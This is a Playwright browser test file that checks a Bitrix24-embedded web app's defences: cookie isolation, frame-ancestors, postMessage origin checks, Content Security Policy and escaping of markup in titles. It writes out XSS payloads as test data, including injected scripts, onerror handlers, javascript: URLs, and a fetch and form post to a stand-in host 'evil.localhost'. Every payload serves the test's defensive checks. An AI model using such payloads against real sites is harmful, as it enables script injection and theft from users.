"""What only a browser can show of the security checklist (S15, S18, S19, S20, S35)."""

from __future__ import annotations

import re
from collections.abc import Iterator
from html import escape
from typing import Any
from urllib.parse import urlencode

import pytest
from playwright.sync_api import FrameLocator, expect
from werkzeug.wrappers import Request, Response

from tests.browser import steps
from tests.browser.conftest import MakeDesk
from tests.browser.desk import Desk
from tests.browser.framed_application import served
from tests.demo.stand import Stand

pytestmark = pytest.mark.browser
DEAL = 511


def at_list(frame: FrameLocator) -> None:
    expect(frame.get_by_role("link", name="New document")).to_be_visible()


def test_s15_third_party_cookies_are_blocked_in_all_these_tests(boris: Desk) -> None:
    """A page of our site asks, inside the portal's frame, for a cookie, and does not get it."""
    boris.open_tab(DEAL)
    at_list(boris.frame)
    kept = boris.inside.evaluate("document.cookie = 'a=b; SameSite=None; Secure'; document.cookie")
    assert kept == ""
    assert boris.cookies_of_app() == []


def test_s15_the_main_job_without_any_cookie(boris: Desk) -> None:
    steps.make(boris.open_tab(DEAL), "Made without a cookie")
    assert boris.cookies_of_app() == []


@pytest.fixture
def evil(stand: Stand) -> Iterator[Any]:
    """A page of somebody else, which frames what `?frame=` says and speaks to it."""

    @Request.application
    def application(request: Request) -> Response:
        address, name = (escape(request.args.get(key, "")) for key in ("frame", "name"))
        page = f"""<!doctype html><title>evil</title>
<script>
window.heard = [];
addEventListener('message', event => heard.push(String(event.data)));
</script>
<iframe id="f" name="{name}" src="{address}" width="900" height="600"></iframe>"""
        return Response(page, content_type="text/html")

    with served(application) as origin:
        # Another name for loopback: neither the portal's site nor ours.
        yield origin.replace("127.0.0.1", "evil.localhost")


def test_s18_a_foreign_page_cannot_frame_us(boris: Desk, evil: str) -> None:
    boris.expect_complaint("frame-ancestors|ERR_BLOCKED_BY_RESPONSE|X-Frame-Options")
    boris.open_tab(DEAL)
    at_list(boris.frame)
    ours = boris.inside.url
    boris.page.goto(f"{evil}/?{urlencode({'frame': ours})}")
    inside = boris.page.locator("#f").element_handle().content_frame()
    assert inside is not None
    inside.wait_for_url(re.compile("^chrome-error:"), wait_until="commit")


@pytest.mark.parametrize("pretended", ["evil", "portal"])
def test_s20_a_forged_window_name_gets_no_message(boris: Desk, evil: str, pretended: str) -> None:
    """Were the frame let through: the bridge speaks only to the origin the server has verified."""
    boris.expect_complaint("frame-ancestors|ERR_|postMessage")
    boris.open_tab(DEAL)
    at_list(boris.frame)
    ours = boris.inside.url
    origin = evil if pretended == "evil" else boris.ports.portal_one
    strip_policy(boris, ours)
    name = f"{origin.partition('://')[2]}|0|{'a' * 32}"
    boris.page.goto(f"{evil}/?{urlencode({'frame': ours, 'name': name})}")
    inside = boris.page.frame_locator("#f")
    said = "Open this page from Bitrix24" if pretended == "evil" else "Opening"
    expect(inside.get_by_role("heading", name=said)).to_be_visible()
    boris.page.wait_for_timeout(300)
    assert boris.page.evaluate("heard") == []


def strip_policy(desk: Desk, address: str) -> None:
    """As if a browser knew nothing of frame-ancestors."""

    def fulfil(route: Any) -> None:
        answer = route.fetch()
        kept = {k: v for k, v in answer.headers.items() if k != "content-security-policy"}
        route.fulfill(response=answer, headers=kept)

    desk.page.route(lambda url: url == address, fulfil)


def test_s20_messages_of_others_are_ignored(boris: Desk) -> None:
    """From a sibling frame of a foreign origin, from the portal's origin but not the parent, and
    with a forged answer to a question that was never asked."""
    frame = boris.open_tab(DEAL)
    at_list(frame)
    height = boris.inside.evaluate("document.documentElement.scrollHeight")
    boris.page.evaluate(
        """() => new Promise(done => {
          const target = document.querySelector('iframe.app-frame').contentWindow
          const sibling = document.createElement('iframe')
          sibling.srcdoc = `<script>
            const frames = Array.from({length: parent.length}, (_, at) => parent[at])
            const app = frames.find(f => f !== window)
            for (const id of ['1', 'call1', '']) app.postMessage(id + ':{"AUTH_ID":"x"}', '*')
            app.postMessage({method: 'x'}, '*')
            parent.postMessage('sent', '*')
          <\\/script>`
          addEventListener('message', event => event.data === 'sent' && done())
          document.body.append(sibling)
          for (const odd of ['garbage', ':', 'x:', '1:{', 7, null, {}]) target.postMessage(odd, '*')
        })"""
    )
    at_list(frame)
    assert boris.inside.evaluate("document.documentElement.scrollHeight") == height


FORGE = """origin => asked.then(id => new Promise(done => {
  const sibling = document.createElement('iframe')
  if (origin === 'foreign') sibling.sandbox = 'allow-scripts'
  sibling.srcdoc = `<script>
    const frames = Array.from({length: parent.length}, (_, at) => parent[at])
    for (const frame of frames) if (frame !== window) frame.postMessage('${id}:{"from":"me"}', '*')
    parent.postMessage('sent', '*')
  <\\/script>`
  addEventListener('message', event => event.data === 'sent' && done())
  document.body.append(sibling)
}))"""
ANSWER = """() => asked.then(id => document.querySelector('iframe.app-frame')
  .contentWindow.postMessage(`${id}:{"from":"parent"}`, '*'))"""


@pytest.mark.parametrize("origin", ["foreign", "portal"])
def test_s20_only_the_portals_page_answers(boris: Desk, stand: Stand, origin: str) -> None:
    """Not even a neighbour that knows what was asked: the portal's own page comes too late, and is
    heard all the same."""
    stand.control("options", frame_silent=["getInitData"])
    at_list(boris.open_tab(DEAL))
    boris.page.evaluate(
        """() => { window.asked = new Promise(done => addEventListener('message', event => {
          if (String(event.data).startsWith('getInitData:')) done(event.data.split(':').at(-2))
        })) }"""
    )
    boris.inside.evaluate("void bridge.init().then(answer => { window.answer = answer })")
    boris.page.evaluate(FORGE, origin)
    boris.page.wait_for_timeout(300)
    assert boris.inside.evaluate("window.answer") is None
    boris.page.evaluate(ANSWER)
    boris.inside.wait_for_function("() => window.answer")
    assert boris.inside.evaluate("answer") == {"from": "parent"}


INJECTED = {
    "inline script": "s = document.createElement('script'); s.text = 'window.pwned = 1';"
    "document.body.append(s)",
    "foreign script": "s = document.createElement('script'); s.src = 'http://evil.localhost/x.js';"
    "document.body.append(s)",
    "handler": "d = document.createElement('div');"
    "d.innerHTML = '<img src=x onerror=window.pwned=1>';"
    "document.body.append(d)",
    "eval": "try { eval('window.pwned = 1') } catch (e) {}",
    "function": "try { new Function('window.pwned = 1')() } catch (e) {}",
    "timer": "setTimeout('window.pwned = 1', 0)",
    "javascript address": "a = document.createElement('a'); a.href = 'javascript:window.pwned=1';"
    "document.body.append(a); a.click()",
    "htmx": "d = document.createElement('div'); d.innerHTML = "
    "`<b hx-get='/healthz' hx-trigger='load[window.pwned=1]' hx-vals='js:{a: window.pwned=1}' "
    "hx-on:htmx:load='window.pwned=1'></b>`; document.body.append(d); htmx.process(d)",
    "data address": "f = document.createElement('iframe'); f.src = 'data:text/html,x';"
    "document.body.append(f)",
    "foreign fetch": "fetch('http://evil.localhost/x').then(() => { window.pwned = 1 }, () => {})",
    "form": "f = document.createElement('form'); f.action = 'http://evil.localhost/';"
    "document.body.append(f); f.submit()",
    "base": "b = document.createElement('base'); b.href = 'http://evil.localhost/';"
    "document.head.append(b); window.pwned = document.baseURI.includes('evil') ? 1 : undefined",
}


LET = "let s, d, f, a, b;"
WATCH = """code => {
  window.blocked = []
  addEventListener('securitypolicyviolation', event => blocked.push(event.effectiveDirective))
}"""


def test_s19_injected_script_does_not_run(boris: Desk) -> None:
    """The scripts run in the page as if somebody had found a hole; the policy holds behind it."""
    boris.expect_complaint("Content Security Policy|ERR_|404|htmx|Failed to load|Refused")
    at_list(boris.open_tab(DEAL))
    inside, url = boris.inside, boris.inside.url
    inside.evaluate(WATCH)
    for way, script in INJECTED.items():
        # Later, and not within `evaluate`: what a debugger runs may break the policy.
        inside.evaluate(f"() => {{ blocked = []; setTimeout(() => {{ {LET} {script} }}) }}")
        if way != "htmx":  # it does not even try
            inside.wait_for_function("() => blocked.length")
        inside.wait_for_timeout(200)
        assert inside.evaluate("window.pwned") is None, way
        assert inside.url == url, way


def test_s35_names_with_markup_are_text_and_open_no_dialog(desk: MakeDesk, stand: Stand) -> None:
    payload = "\"><img src=x onerror=alert(1)><script>alert(2)</script>' onload=alert(3) x='"
    stand.control("deal", deal=DEAL, title=payload)
    boris = desk("Boris")
    dialogs: list[str] = []
    boris.page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    frame: FrameLocator = boris.open_tab(DEAL)
    at_list(frame)
    steps.pick(frame)
    expect(frame.locator("#i-Title")).to_have_value(payload)
    steps.generate(frame, payload)
    steps.back_to_list(frame)
    expect(frame.get_by_role("link", name=payload, exact=True)).to_be_visible()
    stand.control("deal", deal=DEAL, title="Plain again")
    assert dialogs == []
